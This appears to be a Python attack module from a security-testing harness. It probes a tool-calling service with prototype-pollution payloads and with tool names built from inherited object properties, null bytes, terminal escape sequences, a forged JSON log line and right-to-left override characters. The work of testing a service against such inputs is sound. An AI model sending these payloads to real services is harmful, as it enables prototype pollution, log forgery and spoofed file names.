"""Calls tools by names that objects inherit, that steer terminals, or that turn text around."""

import json
from functools import partial

from support.attempts import attempt
from support.channel import Refused, own_channel

INHERITED = ("__proto__", "constructor", "toString", "hasOwnProperty", "called.listed\0", "CALLED.LISTED")
STEERING = ("\x1b]0;owned\x07", "\x9b2J", "line\n{\"level\":50}", "gpj.\u202eexe", "\u2066called.listed\u2069")
POLLUTING = {"__proto__": {"polluted": True}, "constructor": {"prototype": {"polluted": True}}}


def attack(target):
    channel = own_channel(target)
    # The worker looks at what its objects have inherited.
    steps = [{"toolId": "called.listed", "args": POLLUTING, "usePrevious": True}] * 2
    channel.ask("run_chain", {"steps": steps})

    def run(tool):
        return str(channel.run(tool))

    def echo(tool):
        """The name as it comes back, where the characters are still in it."""
        try:
            return str(channel.run(tool))
        except Refused as refused:
            return json.dumps(tool) if tool in refused.text else None

    return attempt(
        {
            **{f"run {json.dumps(tool)}": partial(run, tool) for tool in INHERITED},
            **{f"echo {json.dumps(tool)}": partial(echo, tool) for tool in STEERING},
        }
    )
